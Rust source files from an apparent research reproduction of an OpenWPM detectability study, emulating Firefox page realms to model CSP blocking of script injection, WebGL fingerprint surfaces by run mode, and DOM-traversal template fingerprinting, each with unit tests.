//! Sec. 5.1.2 of the paper: OpenWPM's JavaScript instrument enters the page
//! by injecting a `<script>` node into the DOM; a site whose CSP restricts
//! `script-src` blocks that injection, leaving the page un-instrumented and
//! producing a CSP violation report (the `csp_report` rows of Table 8). The
//! hardened instrument installs hooks from the content context via
//! `exportFunction`, which is not subject to the page's CSP (Sec. 6.2.1).

/// A site's CSP, reduced to what the experiments observe.
#[derive(Clone, Debug, PartialEq)]
pub struct CspPolicy {
    /// `script-src` present without `'unsafe-inline'`: dynamically injected
    /// inline scripts are refused.
    pub blocks_inline_scripts: bool,
    /// `report-uri` endpoint; violations POST a report there.
    pub report_uri: Option<String>,
}

impl CspPolicy {
    /// The common hardened-site policy: inline injection blocked, reports
    /// collected.
    pub fn strict(report_uri: &str) -> CspPolicy {
        CspPolicy {
            blocks_inline_scripts: true,
            report_uri: Some(report_uri.to_owned()),
        }
    }

    /// A policy that permits inline scripts (no effect on instrumentation).
    pub fn permissive() -> CspPolicy {
        CspPolicy { blocks_inline_scripts: false, report_uri: None }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn policies() {
        assert!(CspPolicy::strict("/csp-report").blocks_inline_scripts);
        assert!(!CspPolicy::permissive().blocks_inline_scripts);
        assert_eq!(CspPolicy::strict("/r").report_uri.as_deref(), Some("/r"));
    }
}
