//! Content Security Policy — the `script-src` directive.
//!
//! Sec. 5.1.2 of the paper: OpenWPM's JavaScript instrument enters the page
//! by injecting a `<script>` node into the DOM; a site whose CSP restricts
//! `script-src` blocks that injection, leaving the page un-instrumented and
//! producing a CSP violation report (the `csp_report` rows of Table 8). The
//! hardened instrument installs hooks from the content context via
//! `exportFunction`, which is not subject to the page's CSP (Sec. 6.2.1).

/// A site's CSP, reduced to what the experiments observe.
#[derive(Clone, Debug, PartialEq)]
pub struct CspPolicy {
    /// `script-src` present without `'unsafe-inline'`: dynamically injected
    /// inline scripts are refused.
    pub blocks_inline_scripts: bool,
    /// `report-uri` endpoint; violations POST a report there.
    pub report_uri: Option<String>,
}

impl CspPolicy {
    /// The common hardened-site policy: inline injection blocked, reports
    /// collected.
    pub fn strict(report_uri: &str) -> CspPolicy {
        CspPolicy {
            blocks_inline_scripts: true,
            report_uri: Some(report_uri.to_owned()),
        }
    }

    /// A policy that permits inline scripts (no effect on instrumentation).
    pub fn permissive() -> CspPolicy {
        CspPolicy { blocks_inline_scripts: false, report_uri: None }
    }

    /// Compact archive encoding: `{0|1}|{report_uri}` (empty uri = none).
    /// The crawl archive stores each page's policy so a replayed visit
    /// produces the same CSP violations (and `csp_report` rows) as the
    /// recorded one.
    pub fn encode(&self) -> String {
        format!(
            "{}|{}",
            self.blocks_inline_scripts as u8,
            self.report_uri.as_deref().unwrap_or("")
        )
    }

    /// Inverse of [`CspPolicy::encode`]; `None` on malformed input.
    pub fn decode(s: &str) -> Option<CspPolicy> {
        let (flag, uri) = s.split_once('|')?;
        let blocks_inline_scripts = match flag {
            "0" => false,
            "1" => true,
            _ => return None,
        };
        Some(CspPolicy {
            blocks_inline_scripts,
            report_uri: (!uri.is_empty()).then(|| uri.to_owned()),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn policies() {
        assert!(CspPolicy::strict("/csp-report").blocks_inline_scripts);
        assert!(!CspPolicy::permissive().blocks_inline_scripts);
        assert_eq!(CspPolicy::strict("/r").report_uri.as_deref(), Some("/r"));
    }

    #[test]
    fn encode_roundtrip() {
        for p in [
            CspPolicy::permissive(),
            CspPolicy::strict("https://w000001.com/csp-report"),
            CspPolicy { blocks_inline_scripts: true, report_uri: None },
        ] {
            assert_eq!(CspPolicy::decode(&p.encode()).as_ref(), Some(&p));
        }
        assert_eq!(CspPolicy::decode(""), None);
        assert_eq!(CspPolicy::decode("2|/r"), None);
        assert_eq!(CspPolicy::decode("yes|/r"), None);
    }
}
