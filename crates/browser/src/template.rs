//! JavaScript template attacks (Schwarz et al., NDSS'19) — the second of the
//! two fingerprinting methods the paper combines (Sec. 3).
//!
//! A template is a map from DOM property *paths* to value *signatures*,
//! captured by exhaustively traversing the object hierarchy from `window`.
//! Diffing the templates of two clients yields the properties that are
//! missing, added or changed between them; applied to OpenWPM vs a stock
//! Firefox this recovers the fingerprint surface of Table 2.

use std::collections::BTreeMap;

use jsengine::{Callable, ObjId, Value};

use crate::page::Page;

/// A captured template: path → signature.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Template {
    pub entries: BTreeMap<String, String>,
}

/// Difference between two templates.
#[derive(Clone, Debug, Default)]
pub struct TemplateDiff {
    /// Paths present in the baseline but absent in the subject.
    pub missing: Vec<String>,
    /// Paths absent in the baseline but present in the subject.
    pub added: Vec<String>,
    /// Paths present in both with different signatures.
    pub changed: Vec<String>,
}

impl TemplateDiff {
    pub fn total(&self) -> usize {
        self.missing.len() + self.added.len() + self.changed.len()
    }

    pub fn is_empty(&self) -> bool {
        self.total() == 0
    }

    /// All deviating paths matching a prefix filter.
    pub fn matching(&self, prefix: &str) -> usize {
        self.missing
            .iter()
            .chain(&self.added)
            .chain(&self.changed)
            .filter(|p| p.starts_with(prefix))
            .count()
    }
}

/// Capture a template of `page` by traversing from `window`.
///
/// Like the original attack script, the traversal first *materialises*
/// lazily-created surfaces (a WebGL context) so they are reachable, then
/// walks own properties recursively, following prototype links as
/// `__proto__` edges. Accessor getters are invoked with their real receiver,
/// so receiver-validating getters behave as they would for the attack
/// script. Cycles are broken per-path by an on-stack set.
pub fn capture_template(page: &mut Page) -> Template {
    // Materialise WebGL exactly as the attack script would.
    let _ = page.run_script((
        "try { window.__tmplWebgl = document.createElement('canvas').getContext('webgl'); } \
         catch (e) { window.__tmplWebgl = null; }",
        "template-attack",
    ));
    let mut t = Template::default();
    let root = page.top.window;
    // Global visited set: each object is expanded at its first-encountered
    // path (as the original attack script does), keeping the traversal
    // linear in heap size instead of exponential in depth.
    let mut visited: std::collections::HashSet<ObjId> = std::collections::HashSet::new();
    walk(page, Value::Obj(root), "window", 0, &mut visited, &mut t);
    // Present the materialised context under a stable path, as the attack
    // script would label its probe.
    let webgl_entries: Vec<(String, String)> = t
        .entries
        .iter()
        .filter(|(k, _)| k.starts_with("window.__tmplWebgl"))
        .map(|(k, v)| (k.replacen("window.__tmplWebgl", "webglContext", 1), v.clone()))
        .collect();
    t.entries.retain(|k, _| !k.starts_with("window.__tmplWebgl"));
    t.entries.extend(webgl_entries);
    let _ = page.run_script(("delete window.__tmplWebgl;", "template-attack"));
    t
}

const MAX_DEPTH: usize = 5;

fn signature(page: &Page, v: &Value) -> String {
    match v {
        Value::Undefined => "undefined".into(),
        Value::Null => "null".into(),
        Value::Bool(b) => format!("boolean:{b}"),
        Value::Num(n) => format!("number:{n}"),
        Value::Str(s) => format!("string:{s}"),
        Value::Obj(id) => {
            let obj = page.interp.heap.get(*id);
            match &obj.call {
                Some(Callable::Native { name, .. }) => format!("function:native:{name}"),
                Some(Callable::Script { def, .. }) => format!("function:script:{}", def.source),
                None => format!("object:{}", obj.class),
            }
        }
    }
}

fn walk(
    page: &mut Page,
    v: Value,
    path: &str,
    depth: usize,
    visited: &mut std::collections::HashSet<ObjId>,
    out: &mut Template,
) {
    out.entries.insert(path.to_owned(), signature(page, &v));
    if depth >= MAX_DEPTH {
        return;
    }
    let Value::Obj(id) = v else { return };
    if !visited.insert(id) {
        return;
    }
    // Enumerate every key visible along the prototype chain and read it
    // through the *instance* — this is what `obj[key]` in the attack script
    // does, and it is how prototype accessors (e.g. `webdriver` on
    // `Navigator.prototype`) resolve to concrete values.
    let mut keys: Vec<std::sync::Arc<str>> = Vec::new();
    {
        let mut seen = std::collections::HashSet::new();
        let mut cur = Some(id);
        while let Some(oid) = cur {
            let obj = page.interp.heap.get(oid);
            for k in obj.props.keys() {
                if seen.insert(k.clone()) {
                    keys.push(k.clone());
                }
            }
            cur = obj.proto;
        }
    }
    let proto = page.interp.heap.get(id).proto;
    for key in keys {
        let child_path = format!("{path}.{key}");
        match page.interp.get_prop(&Value::Obj(id), &key) {
            Ok(value) => walk(page, value, &child_path, depth + 1, visited, out),
            Err(_) => {
                out.entries.insert(child_path, "throws".into());
            }
        }
    }
    // Record the structural prototype link too (distinguishes where a
    // property lives — needed to observe prototype pollution).
    if let Some(p) = proto {
        let sig = format!("proto:{}", page.interp.heap.get(p).class);
        out.entries.insert(format!("{path}.__proto__"), sig);
        let own: Vec<std::sync::Arc<str>> =
            page.interp.heap.get(p).props.keys().cloned().collect();
        out.entries.insert(
            format!("{path}.__proto__.#ownKeys"),
            own.iter().map(|k| k.as_ref()).collect::<Vec<_>>().join(","),
        );
    }
}

/// Diff `subject` against `baseline`.
pub fn diff(baseline: &Template, subject: &Template) -> TemplateDiff {
    let mut d = TemplateDiff::default();
    for (k, v) in &baseline.entries {
        match subject.entries.get(k) {
            None => d.missing.push(k.clone()),
            Some(sv) if sv != v => d.changed.push(k.clone()),
            Some(_) => {}
        }
    }
    for k in subject.entries.keys() {
        if !baseline.entries.contains_key(k) {
            d.added.push(k.clone());
        }
    }
    d
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::profile::{FingerprintProfile, Os, RunMode};
    use netsim::Url;

    fn page_for(p: FingerprintProfile) -> Page {
        Page::new(p, Url::parse("https://probe.test/").unwrap(), None)
    }

    #[test]
    fn identical_profiles_have_empty_diff() {
        let mut a = page_for(FingerprintProfile::stock_firefox(Os::Ubuntu1804));
        let mut b = page_for(FingerprintProfile::stock_firefox(Os::Ubuntu1804));
        let d = diff(&capture_template(&mut a), &capture_template(&mut b));
        assert!(d.is_empty(), "diff: {:?}", d);
    }

    #[test]
    fn webdriver_difference_is_detected() {
        let mut stock = page_for(FingerprintProfile::stock_firefox(Os::Ubuntu1804));
        let mut wpm = page_for(FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular));
        let d = diff(&capture_template(&mut stock), &capture_template(&mut wpm));
        assert!(
            d.changed.iter().any(|p| p.contains("webdriver")),
            "changed: {:?}",
            &d.changed[..d.changed.len().min(20)]
        );
    }

    #[test]
    fn headless_loses_thousands_of_webgl_properties() {
        let mut regular = page_for(FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular));
        let mut headless =
            page_for(FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Headless));
        let d = diff(&capture_template(&mut regular), &capture_template(&mut headless));
        let webgl_missing = d
            .missing
            .iter()
            .filter(|p| p.contains("WEBGL_PROP_") || p.contains("UNMASKED_"))
            .count();
        assert!(webgl_missing > 2000, "missing WebGL props: {webgl_missing}");
    }

    #[test]
    fn template_contains_screen_and_navigator_paths() {
        let mut p = page_for(FingerprintProfile::stock_firefox(Os::Ubuntu1804));
        let t = capture_template(&mut p);
        assert!(t.entries.keys().any(|k| k.contains("navigator") && k.contains("userAgent")));
        assert!(t.entries.keys().any(|k| k.contains("screen")));
        assert!(t.entries.len() > 200, "template size {}", t.entries.len());
    }
}
