//! A loaded page: one top-level realm plus any frames it spawns.
//!
//! `Page` couples a MiniJS interpreter with host state ([`PageHost`]) shared
//! by all the native functions installed into the realm. The OpenWPM crates
//! hook into the page through three channels, mirroring a WebExtension's
//! real capabilities:
//!
//! * [`Page::dom_inject_script`] — enter the page by DOM script injection
//!   (subject to the page's CSP, like vanilla OpenWPM's instrument);
//! * [`PageHost::event_sinks`] — privileged listeners on the event dispatch
//!   path (the content-script side of the vanilla instrument's messaging);
//! * frame hooks — synchronous ([`PageHost::frame_sync_hooks`], used by the
//!   hardened extension's frame protection) or scheduled
//!   ([`PageHost::frame_async_hooks`], the vanilla extension's delayed
//!   injection, which is what the iframe bypass of Sec. 5.4.1 races).

use std::cell::RefCell;
use std::collections::HashMap;
use std::rc::Rc;

use jsengine::{EngineError, Interp, ObjId, ScriptSource, Value};
use netsim::{HttpRequest, HttpResponse, ResourceType, Url};

use crate::csp::CspPolicy;
use crate::hostobjects;
use crate::profile::FingerprintProfile;

/// Shared host state handle.
pub type PageShared = Rc<RefCell<PageHost>>;

/// Privileged event listener: sees every event that reaches the *native*
/// dispatch path (type, event value). A page that shadows
/// `document.dispatchEvent` starves these sinks — that is Listing 2.
pub type EventSink = Rc<dyn Fn(&mut Interp, &str, Value)>;

/// Hook invoked when a new browsing context (iframe / popup) is created.
pub type FrameHook = Rc<dyn Fn(&mut Interp, RealmWindow)>;

/// How a frame came to exist — the "DOM creation" contexts of Fig. 6.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum FrameContext {
    /// `document.createElement('iframe')` + `appendChild`.
    IframeAppend,
    /// `document.write('<iframe …')`.
    DocumentWrite,
    /// `window.open(...)`.
    WindowOpen,
}

/// Object references of one window's realm.
#[derive(Clone, Copy, Debug)]
pub struct RealmWindow {
    pub window: ObjId,
    pub navigator: ObjId,
    pub screen: ObjId,
    pub document: ObjId,
    pub body: ObjId,
    pub navigator_proto: ObjId,
    pub screen_proto: ObjId,
    pub document_proto: ObjId,
    pub node_proto: ObjId,
    pub element_proto: ObjId,
    pub event_target_proto: ObjId,
    /// `HTMLCanvasElement.prototype` — carries `getContext`/`toDataURL`,
    /// the canvas-fingerprinting APIs OpenWPM instruments.
    pub canvas_proto: ObjId,
    /// `frames` array object of this window.
    pub frames_array: ObjId,
    pub is_top: bool,
}

/// Host-side state of a page visit.
pub struct PageHost {
    /// The client fingerprint this page presents. Shared (`Arc`) because
    /// every page of a browser instance presents the same profile — the
    /// browser builds it once and hands each page a reference.
    pub profile: std::sync::Arc<FingerprintProfile>,
    pub page_url: Url,
    pub csp: Option<CspPolicy>,
    /// Count of CSP violations triggered (each also emits a `csp_report`
    /// request when the policy has a report endpoint).
    pub csp_violations: u32,
    /// Requests generated dynamically by page code (fetch/beacon/reports).
    pub traffic: Vec<HttpRequest>,
    /// Server-side resources reachable via `fetch` (URL → response); sites
    /// register attacker-controlled payloads here.
    pub server_resources: HashMap<String, HttpResponse>,
    /// JS event listeners per (target object, event type).
    pub listeners: HashMap<(u32, String), Vec<Value>>,
    /// Privileged (extension-side) event sinks.
    pub event_sinks: Vec<EventSink>,
    /// Frames created during the visit, with their creation context.
    pub frames: Vec<(RealmWindow, FrameContext)>,
    /// Hooks run synchronously at frame creation (stealth frame protection).
    pub frame_sync_hooks: Vec<FrameHook>,
    /// Hooks run from a 0-delay scheduled job after frame creation (vanilla
    /// extension injection — racy by construction).
    pub frame_async_hooks: Vec<FrameHook>,
    /// Values written through `document.cookie`.
    pub js_cookies: Vec<String>,
    /// Virtual epoch base for `Date` (ms).
    pub epoch_base_ms: u64,
    /// The top realm, set once during installation.
    top: Option<RealmWindow>,
    /// Elements registered by `setAttribute('id', …)`.
    elements_by_id: HashMap<String, ObjId>,
}

impl PageHost {
    pub(crate) fn new(
        profile: std::sync::Arc<FingerprintProfile>,
        page_url: Url,
        csp: Option<CspPolicy>,
    ) -> PageHost {
        PageHost {
            profile,
            page_url,
            csp,
            csp_violations: 0,
            traffic: Vec::new(),
            server_resources: HashMap::new(),
            listeners: HashMap::new(),
            event_sinks: Vec::new(),
            frames: Vec::new(),
            frame_sync_hooks: Vec::new(),
            frame_async_hooks: Vec::new(),
            js_cookies: Vec::new(),
            epoch_base_ms: 1_655_000_000_000, // mid-June 2022, the crawl window
            top: None,
            elements_by_id: HashMap::new(),
        }
    }

    /// Record the top realm (called once by `install_window`).
    pub fn set_top(&mut self, rw: RealmWindow) {
        self.top = Some(rw);
    }

    pub fn top(&self) -> Option<RealmWindow> {
        self.top
    }

    pub fn top_window(&self) -> Option<ObjId> {
        self.top.map(|t| t.window)
    }

    pub fn register_element_id(&mut self, id: String, obj: ObjId) {
        self.elements_by_id.insert(id, obj);
    }

    pub fn element_id(&self, id: &str) -> Option<ObjId> {
        self.elements_by_id.get(id).copied()
    }

    /// Resolve a possibly relative URL against the page.
    pub fn resolve_url(&self, s: &str) -> Url {
        if let Some(u) = Url::parse(s) {
            return u;
        }
        Url {
            scheme: self.page_url.scheme.clone(),
            host: self.page_url.host.clone(),
            path: if s.starts_with('/') { s.to_owned() } else { format!("/{s}") },
            query: String::new(),
        }
    }

    /// Record a dynamically generated request.
    pub fn push_request(&mut self, url: Url, rt: ResourceType, time_ms: u64) {
        obs::add("netsim.requests", 1);
        self.traffic.push(HttpRequest {
            url,
            page: self.page_url.clone(),
            resource_type: rt,
            method: if rt == ResourceType::Beacon || rt == ResourceType::CspReport {
                "POST"
            } else {
                "GET"
            },
            time_ms,
        });
    }
}

/// One loaded page.
pub struct Page {
    pub interp: Interp,
    pub host: PageShared,
    pub top: RealmWindow,
}

/// Result of a blocked DOM script injection.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CspBlocked;

/// The page host attached to an interpreter (set by [`Page::new`] and
/// [`crate::realm::PageTemplate::instantiate`]). The native window
/// functions fetch it through here at call time, so an installed realm
/// carries no per-page captures and can serve as a clonable template.
pub(crate) fn host_of(it: &Interp) -> PageShared {
    it.host
        .clone()
        .expect("interpreter has no attached PageHost")
        .downcast::<RefCell<PageHost>>()
        .expect("attached interpreter host is not a PageHost")
}

impl Page {
    /// Load an (empty) page for `url` with the given client profile and
    /// optional site CSP. Site content is executed afterwards with
    /// [`Page::run_script`]. The profile is accepted owned or pre-shared
    /// (`Arc`); browsers opening many pages share one allocation.
    pub fn new(
        profile: impl Into<std::sync::Arc<FingerprintProfile>>,
        url: Url,
        csp: Option<CspPolicy>,
    ) -> Page {
        let mut interp = Interp::new();
        let host = Rc::new(RefCell::new(PageHost::new(profile.into(), url, csp)));
        interp.host = Some(host.clone());
        let top = hostobjects::install_window(&mut interp, &host, true);
        Page { interp, host, top }
    }

    /// Register a server resource reachable by `fetch` from page scripts.
    pub fn add_server_resource(&self, url: &str, content_type: &str, body: &str) {
        let parsed = self.host.borrow().resolve_url(url);
        self.host.borrow_mut().server_resources.insert(
            url.to_owned(),
            HttpResponse {
                url: parsed,
                status: 200,
                content_type: content_type.to_owned(),
                body: body.to_owned(),
            },
        );
    }

    /// Run a page/site script in the top realm. Accepts anything that
    /// converts to a [`ScriptSource`]: raw text as a `(source, name)` pair
    /// (parsed on the spot, uncached), or a
    /// [`CompiledScript`](jsengine::CompiledScript) handle whose shared
    /// parse is reused — the caller opts into the compile cache by passing
    /// the latter; there is no duplicate method pair.
    pub fn run_script(&mut self, script: impl Into<ScriptSource>) -> Result<Value, EngineError> {
        self.interp.eval_source(&script.into())
    }

    /// Turn on interpreter profiling for this page (op counts, call depth,
    /// evals). Costs one branch per interpreter step while enabled.
    pub fn enable_profiling(&mut self) {
        self.interp.enable_profiling();
    }

    /// Stop profiling and return the page's aggregated interpreter counts.
    pub fn take_profile(&mut self) -> Option<jsengine::Profile> {
        self.interp.take_profile()
    }

    /// Inject a script into the page the way a content script does via the
    /// DOM (vanilla OpenWPM's instrumentation entry). Subject to the page's
    /// CSP `script-src` (Sec. 5.1.2): on a strict policy the injection is
    /// refused, a violation is recorded, and a `csp_report` request is
    /// emitted to the site's report endpoint.
    pub fn dom_inject_script(&mut self, script: impl Into<ScriptSource>) -> Result<Value, CspBlocked> {
        let blocked = {
            let host = self.host.borrow();
            host.csp.as_ref().is_some_and(|c| c.blocks_inline_scripts)
        };
        if blocked {
            let (url, time) = {
                let mut host = self.host.borrow_mut();
                host.csp_violations += 1;
                let report_uri =
                    host.csp.as_ref().and_then(|c| c.report_uri.clone());
                match report_uri {
                    Some(uri) => (Some(host.resolve_url(&uri)), self.interp.now_ms),
                    None => (None, 0),
                }
            };
            if let Some(url) = url {
                self.host.borrow_mut().push_request(url, ResourceType::CspReport, time);
            }
            return Err(CspBlocked);
        }
        // Injection executes in the page's global scope, exactly like an
        // appended <script> element.
        self.interp.eval_source(&script.into()).map_err(|_| CspBlocked)
    }

    /// Advance virtual time, draining due jobs (extension injections,
    /// `setTimeout` callbacks). Script errors inside jobs are swallowed like
    /// a browser's per-task error isolation.
    pub fn advance(&mut self, ms: u64) {
        let _ = self.interp.advance_time(ms);
    }

    /// Simulate a user interaction by dispatching a DOM event of `kind`
    /// (`mouseover`, `click`, `scroll`, …) on the document, through the
    /// native dispatch path. This is what an HLISA-style interacting
    /// crawler triggers — hover-gated detectors (present-but-unexecuted
    /// code, Sec. 4.1) only fire under such interaction.
    pub fn simulate_interaction(&mut self, kind: &str) {
        let doc = self.top.document;
        let listeners = self
            .host
            .borrow()
            .listeners
            .get(&(doc.0, kind.to_string()))
            .cloned()
            .unwrap_or_default();
        if listeners.is_empty() {
            return;
        }
        let ev = self.interp.alloc_object_with_class("MouseEvent");
        self.interp
            .heap
            .get_mut(ev)
            .props
            .insert(std::sync::Arc::from("type"), jsengine::Property::data(Value::str(kind)));
        for l in listeners {
            if matches!(&l, Value::Obj(id) if self.interp.heap.get(*id).is_callable()) {
                let _ = self.interp.call(l, Value::Obj(doc), &[Value::Obj(ev)]);
            }
        }
    }

    /// All frames created so far.
    pub fn frames(&self) -> Vec<(RealmWindow, FrameContext)> {
        self.host.borrow().frames.clone()
    }

    /// Total dynamic requests recorded.
    pub fn traffic(&self) -> Vec<HttpRequest> {
        self.host.borrow().traffic.clone()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::profile::{Os, RunMode};

    fn page() -> Page {
        Page::new(
            FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
            Url::parse("https://site.example.com/").unwrap(),
            None,
        )
    }

    #[test]
    fn page_exposes_host_objects() {
        let mut p = page();
        let ua = p.run_script(("navigator.userAgent", "t")).unwrap();
        assert!(ua.as_str().unwrap().contains("Firefox/90.0"));
        let wd = p.run_script(("navigator.webdriver", "t")).unwrap();
        assert_eq!(wd, Value::Bool(true));
    }

    #[test]
    fn stock_firefox_reports_webdriver_false() {
        let mut p = Page::new(
            FingerprintProfile::stock_firefox(Os::Ubuntu1804),
            Url::parse("https://site.example.com/").unwrap(),
            None,
        );
        let wd = p.run_script(("navigator.webdriver", "t")).unwrap();
        assert_eq!(wd, Value::Bool(false));
    }

    #[test]
    fn csp_blocks_dom_injection_and_reports() {
        let mut p = Page::new(
            FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
            Url::parse("https://site.example.com/").unwrap(),
            Some(CspPolicy::strict("/csp-report")),
        );
        let r = p.dom_inject_script(("window.injected = 1;", "inject"));
        assert_eq!(r, Err(CspBlocked));
        assert_eq!(p.host.borrow().csp_violations, 1);
        let traffic = p.traffic();
        assert_eq!(traffic.len(), 1);
        assert_eq!(traffic[0].resource_type, ResourceType::CspReport);
        // The page never saw the injected global.
        let v = p.run_script(("typeof window.injected", "t")).unwrap();
        assert_eq!(v.as_str().unwrap(), "undefined");
    }

    #[test]
    fn permissive_page_allows_injection() {
        let mut p = page();
        p.dom_inject_script(("window.injected = 42;", "inject")).unwrap();
        let v = p.run_script(("window.injected", "t")).unwrap();
        assert_eq!(v, Value::Num(42.0));
    }
}
