//! WebGL surface generation.
//!
//! Table 2 counts thousands of "deviating WebGL properties" between run
//! modes: headless Firefox has no WebGL implementation at all (≈2,000
//! missing properties), Xvfb swaps in a Mesa/llvmpipe software renderer
//! (18 changed values) and Docker a VMware-flagged llvmpipe (27 changed
//! values — "clear evidence for the use of virtualisation", Sec. 3.1.3).
//!
//! The property *names* are deterministic synthetic stand-ins for the real
//! `WebGLRenderingContext` constant and method names; what matters for the
//! reproduction is the diff arithmetic and the vendor/renderer strings,
//! which are verbatim from Table 4.

use crate::profile::Os;

/// A realised WebGL surface.
#[derive(Clone, Debug, PartialEq)]
pub struct WebGlProfile {
    /// `UNMASKED_VENDOR_WEBGL`.
    pub vendor: String,
    /// `UNMASKED_RENDERER_WEBGL`.
    pub renderer: String,
    /// Full property surface `(name, value)` as seen by DOM traversal.
    pub props: Vec<(String, String)>,
}

/// Number of WebGL properties common to every hardware-accelerated Firefox.
const COMMON_PROPS: usize = 1990;

/// Platform extras on top of the common surface: macOS exposes 2,037 props
/// total, Ubuntu 2,061 (the Table 2 headless "missing" counts).
fn platform_extra(os: Os) -> usize {
    match os {
        Os::MacOs1015 => 2037 - COMMON_PROPS,
        Os::Ubuntu1804 => 2061 - COMMON_PROPS,
    }
}

/// How many property values the software renderer changes relative to the
/// native renderer (Table 2: Xvfb 18, Docker 27).
const XVFB_CHANGED: usize = 18;
const DOCKER_CHANGED: usize = 27;

fn base_props(os: Os, vendor: &str, renderer: &str, changed: usize) -> Vec<(String, String)> {
    let total = COMMON_PROPS + platform_extra(os);
    let mut props = Vec::with_capacity(total + 2);
    props.push(("UNMASKED_VENDOR_WEBGL".to_owned(), vendor.to_owned()));
    props.push(("UNMASKED_RENDERER_WEBGL".to_owned(), renderer.to_owned()));
    for i in 0..total - 2 {
        // The first `changed - 2` generic properties take renderer-specific
        // values (driver limits, precision formats, …); the rest are
        // identical across renderers.
        let value = if i < changed.saturating_sub(2) {
            format!("{renderer}:{i}")
        } else {
            format!("webgl-const-{i}")
        };
        props.push((format!("WEBGL_PROP_{i:04}"), value));
    }
    props
}

impl WebGlProfile {
    /// Hardware renderer of a desktop install (regular mode / stock
    /// Firefox). Vendor strings per Table 4 row "RM".
    pub fn native(os: Os) -> WebGlProfile {
        let (vendor, renderer) = match os {
            Os::Ubuntu1804 => ("AMD", "AMD TAHITI"),
            Os::MacOs1015 => ("Apple", "Apple M-series"),
        };
        WebGlProfile {
            vendor: vendor.to_owned(),
            renderer: renderer.to_owned(),
            props: base_props(os, vendor, renderer, 0),
        }
    }

    /// Xvfb: Mesa/X.org software rasteriser (Table 4 row "Xvfb").
    pub fn llvmpipe_mesa(os: Os) -> WebGlProfile {
        let vendor = "Mesa/X.org";
        let renderer = "llvmpipe (LLVM 12.0.0, 256 bits)";
        WebGlProfile {
            vendor: vendor.to_owned(),
            renderer: renderer.to_owned(),
            props: base_props(os, vendor, renderer, XVFB_CHANGED),
        }
    }

    /// Docker: VMware-flagged llvmpipe (Table 4 row "Docker").
    pub fn llvmpipe_vmware() -> WebGlProfile {
        let vendor = "VMware, Inc.";
        let renderer = "llvmpipe (LLVM 10.0.0, 256 bits)";
        WebGlProfile {
            vendor: vendor.to_owned(),
            renderer: renderer.to_owned(),
            props: base_props(Os::Ubuntu1804, vendor, renderer, DOCKER_CHANGED),
        }
    }

    /// A Chromium-family surface for detector validation: overlapping
    /// generic properties (roughly 200 of the 4K union, per Sec. 3.3) but a
    /// different vendor and a disjoint remainder.
    pub fn chrome(os: Os) -> WebGlProfile {
        let vendor = "Google Inc. (NVIDIA)";
        let renderer = "ANGLE (NVIDIA GeForce)";
        let mut props = Vec::new();
        props.push(("UNMASKED_VENDOR_WEBGL".to_owned(), vendor.to_owned()));
        props.push(("UNMASKED_RENDERER_WEBGL".to_owned(), renderer.to_owned()));
        let total = COMMON_PROPS + platform_extra(os);
        for i in 0..total - 2 {
            if i % 10 == 0 {
                // ~10% overlap with the Firefox surface names/values.
                props.push((format!("WEBGL_PROP_{i:04}"), format!("webgl-const-{i}")));
            } else {
                props.push((format!("ANGLE_PROP_{i:04}"), format!("angle-const-{i}")));
            }
        }
        WebGlProfile { vendor: vendor.to_owned(), renderer: renderer.to_owned(), props }
    }

    pub fn prop_count(&self) -> usize {
        self.props.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn surface_sizes_match_table2() {
        assert_eq!(WebGlProfile::native(Os::MacOs1015).prop_count(), 2037);
        assert_eq!(WebGlProfile::native(Os::Ubuntu1804).prop_count(), 2061);
    }

    #[test]
    fn xvfb_changes_exactly_18_values() {
        let native = WebGlProfile::native(Os::Ubuntu1804);
        let xvfb = WebGlProfile::llvmpipe_mesa(Os::Ubuntu1804);
        assert_eq!(native.prop_count(), xvfb.prop_count());
        let changed = native
            .props
            .iter()
            .zip(&xvfb.props)
            .filter(|(a, b)| a.1 != b.1)
            .count();
        assert_eq!(changed, 18);
    }

    #[test]
    fn docker_changes_exactly_27_values_and_flags_vmware() {
        let native = WebGlProfile::native(Os::Ubuntu1804);
        let docker = WebGlProfile::llvmpipe_vmware();
        let changed = native
            .props
            .iter()
            .zip(&docker.props)
            .filter(|(a, b)| a.1 != b.1)
            .count();
        assert_eq!(changed, 27);
        assert!(docker.vendor.contains("VMware"));
    }

    #[test]
    fn chrome_surface_mostly_disjoint() {
        let ff = WebGlProfile::native(Os::Ubuntu1804);
        let cr = WebGlProfile::chrome(Os::Ubuntu1804);
        let ff_names: std::collections::HashSet<&str> =
            ff.props.iter().map(|(k, _)| k.as_str()).collect();
        let overlap = cr.props.iter().filter(|(k, _)| ff_names.contains(k.as_str())).count();
        // Roughly 200 of the union overlaps (Sec. 3.3's ~200-of-4K figure).
        assert!(overlap > 150 && overlap < 260, "overlap = {overlap}");
    }
}
