//! # browser — an emulated Firefox for the OpenWPM reliability case study
//!
//! Builds complete page realms on top of the [`jsengine`] MiniJS
//! interpreter: `window`/`navigator`/`screen`/`document` host objects with
//! receiver-validating IDL accessors, element creation and iframes (each a
//! pristine child realm), CSP enforcement with violation reports, an event
//! target layer with privileged sinks, `fetch`/beacons, and per-(OS × run
//! mode) [`profile::FingerprintProfile`]s that encode Tables 2–4 of the
//! paper.
//!
//! Two fingerprinting methods operate on these realms:
//!
//! * probe-list fingerprinting — detector scripts in the `detect` crate
//!   simply run inside the realm;
//! * [`template`] — DOM-traversal template attacks (Schwarz et al.),
//!   implemented against the realm's object graph.
//!
//! The `openwpm` crate instruments these realms the way the real framework
//! instruments Firefox: by DOM script injection (vanilla, detectable and
//! attackable) or via privileged native hooks (the hardened `WPM_hide`).

pub mod csp;
pub mod hostobjects;
pub mod page;
pub mod profile;
pub mod realm;
pub mod template;
pub mod webgl;

pub use csp::CspPolicy;
pub use page::{
    CspBlocked, EventSink, FrameContext, FrameHook, Page, PageHost, PageShared, RealmWindow,
};
